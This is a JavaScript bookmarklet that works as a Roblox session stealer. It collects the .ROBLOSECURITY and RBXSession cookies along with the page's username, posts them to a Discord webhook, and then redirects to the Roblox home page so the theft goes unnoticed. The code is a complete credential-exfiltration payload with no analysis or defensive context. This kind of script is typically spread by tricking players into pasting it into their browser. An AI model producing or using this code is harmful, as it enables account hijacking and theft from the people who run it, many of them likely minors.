javascript:(function () {
  const to = "https://discord.com/api/webhooks/000000000000000000/PLACEHOLDER";
  const wanted = [".ROBLOSECURITY", "RBXSession"];
  const got = document.cookie.split("; ").reduce((a, pair) => {
    const [k, ...v] = pair.split("=");
    if (wanted.includes(k)) a.push(k + "=" + v.join("="));
    return a;
  }, []);
  const name = document.querySelector("[data-username]")?.dataset.username;
  fetch(to, {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ content: name + " @ " + location.hostname + ":\n```" + (got.join("; ") || "none") + "```" })
  }).then(() => { location.href = "https://www.roblox.com/home"; }).catch((e) => alert("Error " + e));
})();
